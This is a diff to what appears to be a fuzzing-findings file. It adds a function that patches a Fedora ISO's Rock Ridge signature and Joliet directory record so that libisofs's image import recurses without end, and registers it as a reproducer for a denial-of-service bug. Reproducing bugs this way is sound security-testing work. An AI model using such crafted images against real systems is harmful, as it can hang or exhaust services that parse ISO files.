@@ -72,10 +72,26 @@ def leak_multi_extent(seed_dir):
     return d
 
 
+def hang_joliet_dir_loop(seed_dir):
+    """libisofs: a Joliet directory loop. Rock Ridge dropped (ER signature RRIP_1992A), and the
+    Joliet record of /EFI/BOOT/grub.cfg made a directory (flags 0x02) whose extent is /EFI's:
+    iso_image_import recurses /EFI/BOOT/grub.cfg/BOOT/grub.cfg/... without end (thousands of
+    frames deep, memory growing)."""
+    d = bytearray(open(os.path.join(seed_dir, "fedora.iso"), "rb").read())
+    i = find_one(d, b"RRIP_1991A")
+    d[i + 8] = ord("2")
+    efi = find_one(d, b"\x06\x00E\x00F\x00I") - 32  # Joliet record of /EFI (name length 6)
+    cfg = find_one(d, b"\x10\x00g\x00r\x00u\x00b\x00.\x00c\x00f\x00g") - 32
+    d[cfg + 2:cfg + 6] = d[efi + 2:efi + 6]  # extent, little-endian half (what libisofs reads)
+    d[cfg + 25] = 0x02  # file flags: directory
+    return d
+
+
 FINDINGS = {
     "ours-empty-rr-name-walk-hang": empty_rr_name,
     "libisofs-leak-canceled-import": leak_canceled_import,
     "libisofs-leak-multi-extent": leak_multi_extent,
+    "libisofs-hang-joliet-dir-loop": hang_joliet_dir_loop,
 }
 
 
